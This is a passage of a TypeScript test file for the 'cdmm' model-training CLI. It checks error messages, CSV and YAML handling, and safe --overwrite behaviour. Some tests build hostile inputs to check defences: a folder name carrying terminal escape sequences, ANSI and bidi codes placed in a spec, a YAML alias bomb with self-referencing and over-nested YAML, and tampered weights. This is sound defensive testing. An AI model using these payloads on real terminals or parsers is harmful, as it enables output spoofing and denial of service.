    const warn = "cdmm: warning: small: modality 'labs' is missing for every patient (its table is empty, none of its rows lies in the modality's window, its prefix starts no code of the table, or none of its listed variables or codes occurs): the model cannot learn from it\n";
    const t = await cli('train', s, '--out', join(root, 'run-nolabs'), '--json', ...TINY);
    expect(t.code).toBe(0);
    // the warning, then only the debiasing parts' notes (train's default is debias full)
    expect(t.err.split('\n').filter((l) => l && !l.startsWith('cdmm: note: ')).join('\n') + '\n').toBe(warn);
    expect(JSON.parse(t.out).dataset).toBe('small');
    const b = await cli('benchmark', s, '--out', join(root, 'bench-nolabs'), '--backbones', 'early', '--debias', 'none', '--seeds', '2', '--json', ...TINY);
    expect(b.code).toBe(0);
    // the warning once, though two datasets (two split seeds) were prepared; besides it only the resume line
    expect(b.err.split('\n').filter((l) => l && !/^benchmark: \d+ runs into .*continue with: .*--resume$/.test(l)).join('\n') + '\n').toBe(warn);
  });
});

describe('one clear line instead of a stack trace', () => {
  it('a spec path that is a folder', async () => {
    expectUserError(await cli('inspect', data), /: is a folder; expected a dataset spec file \(YAML\)/);
    expectUserError(await cli('train', data, '--out', join(root, 'never-dir'), ...TINY), /: is a folder; expected a dataset spec file/);
  });

  it('terminal escapes from a spec are printed as \\u escapes, never raw', async () => {
    const s = variant({}, (t) => t.replace('numeric: [age]', 'numeric: ["age\\e[31m\\u202e"]'));
    const r = await cli('inspect', s, '--no-cache');
    expectUserError(r, /column 'age\\u001b\[31m\\u202e' not found/);
    expect(r.err).not.toMatch(/[\u001b\u202e]/);
  });

  it("evaluate prints a run's spec_path with its control characters as escapes (a folder named with a terminal reset)", async () => {
    const odd = join(root, 'd\u001b]0;PWNED\u0007\u001bc\nfake line');
    mkdirSync(odd, { recursive: true });
    for (const f of ['spec.yaml', 'patients.csv', 'labs.csv']) copyFileSync(join(data, f), join(odd, f));
    const tampered = copyRunFolder(run, join(root, 'run-ansi'));
    editManifest(tampered, (m) => (m.spec_path = join(odd, 'spec.yaml')));
    const r = await cli('evaluate', tampered, '--bootstrap', '0');
    expect(r.code, r.err).toBe(0);
    expect(r.out).not.toMatch(/[\u0007\u001b]/);
    expect(r.out.split('\n')[0]).toContain('d\\u001b]0;PWNED\\u0007\\u001bc\\nfake line');
  });

  it('evaluate names a run whose weights give risks that are no probability (finite weights of 3e38)', async () => {
    const { createHash } = await import('node:crypto');
    const tampered = copyRunFolder(run, join(root, 'run-huge'));
    const w = readFileSync(join(tampered, 'model.safetensors'));
    const headerLen = Number(w.readBigUInt64LE(0));
    const header = JSON.parse(w.subarray(8, 8 + headerLen).toString('utf8')) as Record<string, { dtype: string; data_offsets: [number, number] }>;
    for (const [name, t] of Object.entries(header))
      if (name !== '__metadata__' && t.dtype === 'F32' && !/prior$/.test(name)) for (let o = 8 + headerLen + t.data_offsets[0]; o < 8 + headerLen + t.data_offsets[1]; o += 4) w.writeFloatLE(3e38, o);
    writeFileSync(join(tampered, 'model.safetensors'), w);
    editManifest(tampered, (m) => (m.weights.sha256 = createHash('sha256').update(w).digest('hex')));
    const r = await cli('evaluate', tampered, '--bootstrap', '0');
    expectUserError(r, /model\.safetensors: the model gives patient "[^"]+" a risk of NaN, not a probability: the run's weights are damaged/);
  });

  it("a run's fitted.json that is not JSON is named without quoting what it holds (it may be a link to a secret)", async () => {
    const tampered = copyRunFolder(run, join(root, 'run-fitted'));
    writeFileSync(join(tampered, 'fitted.json'), 'TOPSECRET-API-KEY=sk-live-123456\n');
    resum(tampered);
    const r = await cli('evaluate', tampered, '--spec', spec, '--bootstrap', '0', '--no-cache');
    expectUserError(r, /fitted\.json: not valid JSON/);
    expect(r.err).not.toContain('TOPSECRET');
  });

  it('--lr 1e308 and --dim 100000000 are refused up front', async () => {
    expectUserError(await cli('train', spec, '--out', join(root, 'never-lr'), '--lr', '1e308', '--epochs', '1'), /--lr 1e\+308: expected 'auto' or a learning rate in \(0, 10\]/);
    expectUserError(await cli('train', spec, '--out', join(root, 'never-dim'), '--dim', '100000000', '--epochs', '1'), /--dim 100000000: expected a width of at most 4096/);
    expect(existsSync(join(root, 'never-lr'))).toBe(false);
  });

  it('a model too large for the memory is refused before it is built, from a lower bound on its parameters', () => {
    const mods = [{ name: 'codes', type: 'codes' as const, shape: [100_000], features: [] }, { name: 'labs', type: 'timeseries' as const, shape: [4, 12], features: [] }];
    expect(minParameters(mods, { dim: 8, branchDim: 4 })).toBe(100_000 * 8 + 8 + 64 * 8 + 8 + 64 + 2 * 8 * 4);
    expect(() => checkModelSize(mods, { ...defaultModelConfig, dim: 4096, branchDim: 4096 }, 2 ** 30)).toThrow(/^model too large: dim 4096, branch dim 4096 on these modalities means at least 4\.\d\de\+8 parameters .* use a smaller --dim or --branch-dim$/);
    expect(() => checkModelSize(mods, { ...defaultModelConfig, dim: 16, branchDim: 8 }, 2 ** 30)).not.toThrow();
  });

  it('a YAML alias bomb, as a spec and as predict input', async () => {
    const bomb = ['a: &a [1,2,3,4,5,6,7,8,9]', ...'bcdefgh'.split('').map((c, i) => `${c}: &${c} [${Array(9).fill(`*${'abcdefgh'[i]}`).join(',')}]`)].join('\n') + '\n';
    const f = join(root, 'bomb.yaml');
    writeFileSync(f, bomb);
    expectUserError(await cli('inspect', f), /bomb\.yaml: YAML error: more than 100 alias expansions/);
    expectUserError(await cli('predict', run, '--input', f, '--out', join(root, 'never-bomb.json')), /bomb\.yaml: YAML error: more than 100 alias expansions/);
  });

  it('an alias inside its own anchor, and nesting beyond 64 levels, are YAML errors (they overflowed the stack: "internal error")', async () => {
    for (const [name, text] of [['self.yaml', 'name: &a [*a]\n'], ['self2.yaml', 'name: x\ntables: &t { a: *t }\n'], ['deep.yaml', `a: ${'['.repeat(200)}${']'.repeat(200)}\n`]] as const) {
      const f = join(root, name);
      writeFileSync(f, text);
      expectUserError(await cli('inspect', f), name === 'deep.yaml' ? /deep\.yaml: YAML error: lists and mappings nested more than 64 deep/ : new RegExp(`${name.replace('.', '\\.')}: YAML error: an alias \\(\\*name\\) is used inside its own anchor`));
    }
    // An anchor used twice side by side (not inside itself) is fine.
    const ok = join(root, 'twice.yaml');
    writeFileSync(ok, 'x: &v [1, 2]\ny: *v\nz: *v\n');
    const r = await cli('inspect', ok);
    expect(r.err).not.toMatch(/YAML error/);
  });

  it('--debug adds the stack trace, anywhere on the line', async () => {
    const r = await cli('--debug', 'inspect', data);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/^cdmm: error: .*is a folder.*\nCdmmError: .*\n\s+at /);
    const r2 = await cli('inspect', data, '--debug');
    expect(r2.err).toMatch(/\n\s+at /);
  });

  it('file-system and memory failures from below are one line naming the path', () => {
    const e = Object.assign(new Error("EROFS: read-only file system, mkdir '/mnt/ro/run'"), { code: 'EROFS', syscall: 'mkdir', path: '/mnt/ro/run' });
    expect(userMessage(e)).toBe('/mnt/ro/run: mkdir failed: read-only file system (EROFS)');
    expect(userMessage(Object.assign(new Error('x'), { code: 'ENOSPC', syscall: 'write' }))).toBe('write failed: no space left on the device (ENOSPC)');
    expect(userMessage(new Error('[enforce fail at alloc_cpu.cpp:75] DefaultCPUAllocator: can\'t allocate memory: you tried to allocate 40000000000 bytes'))).toMatch(/^out of memory: /);
    expect(userMessage(new Error('createModel: dim 30 is not divisible by fusionHeads 4'))).toBe('model: dim 30 is not divisible by fusionHeads 4');
    expect(userMessage(new TypeError("Cannot read properties of undefined (reading 'x')"))).toBeUndefined();
  });
});

describe('clear messages for unreadable CSV files', () => {
  it('a 3 MB field names its real line (DuckDB says line 1)', async () => {
    const rows = readFileSync(join(data, 'patients.csv'), 'utf8').split('\n');
    rows[60 - 1 - 19] = `21,${'9'.repeat(3_000_000)},F,0,100`; // line 41 of the file
    const r = await cli('inspect', variant({ 'patients.csv': rows.join('\n') }), '--no-cache');
    expectUserError(r, /tables\.patients\.file: cannot read .*patients\.csv: line 41 is 3000011 bytes long, more than the 2000000 bytes a CSV line may have/);
    expect(r.err.length).toBeLessThan(600);
  });

  it('a ragged row names its line and the field counts; an empty file says so', async () => {
    const rows = readFileSync(join(data, 'patients.csv'), 'utf8').split('\n');
    rows[20] += ',7';
    expectUserError(await cli('inspect', variant({ 'patients.csv': rows.join('\n') }), '--no-cache'), /patients\.csv: line 21 has 6 fields but the header has 5 \(delimiter ","\)/);
    const short = readFileSync(join(data, 'patients.csv'), 'utf8').split('\n');
    short[12] = '12,52,M';
    expectUserError(await cli('inspect', variant({ 'patients.csv': short.join('\n') }), '--no-cache'), /line 13 has 3 fields but the header has 5/);
    expectUserError(await cli('inspect', variant({ 'labs.csv': '' }), '--no-cache'), /tables\.labs\.file: .*labs\.csv: the file is empty \(expected a header line with the column names\)/);
  });
});

describe('--overwrite, seen from where it runs and what it left', () => {
  it('checks again at the swap: what appeared in the folder meanwhile is kept, and so is the new folder', async () => {
    const { replaceProblem, foreignEntries } = await import('../src/util/outdir.js');
    const { writeDirAtomic } = await import('../src/util/atomic.js');
    const dir = mkdtempSync(join(root, 'swap-'));
    writeFileSync(join(dir, 'manifest.json'), JSON.stringify({ format: 'cdmm-model/3' }));
    expect(replaceProblem(dir, 'run')).toBeNull();
    writeFileSync(join(dir, 'results.xlsx'), 'mine');
    expect(replaceProblem(dir, 'run')).toMatch(/now also holds what cdmm does not write there \(results\.xlsx\)/);
    const err = await writeDirAtomic(dir, (tmp) => writeFileSync(join(tmp, 'manifest.json'), '{}'), { replaceable: (d) => replaceProblem(d, 'run') }).catch((e) => e);
    expect(String(err)).toMatch(/not replaced: it now also holds .*results\.xlsx.*; the new folder is at .*\.new-\d+-\d+/);
    expect(readFileSync(join(dir, 'results.xlsx'), 'utf8')).toBe('mine');
    const kept = /the new folder is at (\S+)$/.exec(String(err))![1];
    expect(existsSync(join(kept, 'manifest.json'))).toBe(true);
    // a half-made run folder an interrupted benchmark left in runs/ is cdmm's own, not the user's
    const bench = mkdtempSync(join(root, 'bench-left-'));
    writeFileSync(join(bench, 'benchmark.json'), JSON.stringify({ runs: [] }));
    mkdirSync(join(bench, 'runs', '.early-full-s0.tmp-AbC123'), { recursive: true });
    writeFileSync(join(bench, 'runs', '.early-full-s0.tmp-AbC123', 'model.safetensors'), '');
    expect(foreignEntries(bench, 'benchmark')).toEqual([]);
    writeFileSync(join(bench, 'runs', '.early-full-s0.tmp-AbC123', 'mine.txt'), '');
    expect(foreignEntries(bench, 'benchmark')).toEqual(['runs/.early-full-s0.tmp-AbC123/']);
    rmSync(join(bench, 'runs', '.early-full-s0.tmp-AbC123'), { recursive: true });
    // a run folder of the user's copied into runs/ under a name the benchmark does not give is theirs
    const mine = join(bench, 'runs', 'my-precious-run');
    mkdirSync(mine);
    writeFileSync(join(mine, 'manifest.json'), JSON.stringify({ format: 'cdmm-model/3' }));
    expect(foreignEntries(bench, 'benchmark')).toEqual(['runs/my-precious-run/']);
    // a file of the user's named like a cdmm temporary file, and one inside a simulated folder's .cdmm-cache
    const run2 = mkdtempSync(join(root, 'tmpname-'));
    writeFileSync(join(run2, 'manifest.json'), JSON.stringify({ format: 'cdmm-model/3' }));
    writeFileSync(join(run2, '.manifest.json.tmp-1-2'), '');
    writeFileSync(join(run2, '.notes.tmp-1-2'), 'mine');
    expect(foreignEntries(run2, 'run')).toEqual(['.notes.tmp-1-2']);
    const sim = mkdtempSync(join(root, 'simcache-'));
    mkdirSync(join(sim, '.cdmm-cache'));
    writeFileSync(join(sim, '.cdmm-cache', '09ae04a9b472c2ad33fb8cad16bd73f5.json'), '{}');
    writeFileSync(join(sim, '.cdmm-cache', 'cache-secret'), 'x');
    expect(foreignEntries(sim, 'simulate')).toEqual([]);
    writeFileSync(join(sim, '.cdmm-cache', 'user.txt'), 'mine');
    expect(foreignEntries(sim, 'simulate')).toEqual(['.cdmm-cache/user.txt']);
  });

  it('refuses to replace the folder the command runs in, before any work', async () => {
    const { checkOutDir } = await import('../src/util/outdir.js');
    const dir = join(root, 'cwd-run');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'manifest.json'), JSON.stringify({ format: 'cdmm-model/3' }));
    const here = process.cwd();
    try {
      process.chdir(dir);
      expect(() => checkOutDir(dir, 'run', { overwrite: true })).toThrow(/is the folder this command runs in \(or holds it\); it cannot be replaced from inside/);
      process.chdir(root);
      expect(checkOutDir(dir, 'run', { overwrite: true })).toBe('replace');
    } finally {
      process.chdir(here);
    }
  });

  it('names a folder an interrupted --overwrite set aside (its process gone), so it is not lost unseen', async () => {
    const { checkOutDir } = await import('../src/util/outdir.js');
    const dir = join(root, 'aside-run');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'manifest.json'), JSON.stringify({ format: 'cdmm-model/3' }));
    const left = join(root, '.aside-run.replaced-99999999-1');
    mkdirSync(left);
    const writes: string[] = [];
    const orig = process.stderr.write.bind(process.stderr);
    process.stderr.write = ((s: string) => { writes.push(String(s)); return true; }) as typeof process.stderr.write;
    try {
      expect(checkOutDir(dir, 'run', { overwrite: true })).toBe('replace');
    } finally {
      process.stderr.write = orig;
    }
    expect(writes.join('')).toContain(`cdmm: warning: ${left} is the folder an interrupted --overwrite of ${dir} set aside; move it back or remove it yourself`);
    expect(existsSync(left)).toBe(true);
  });
});
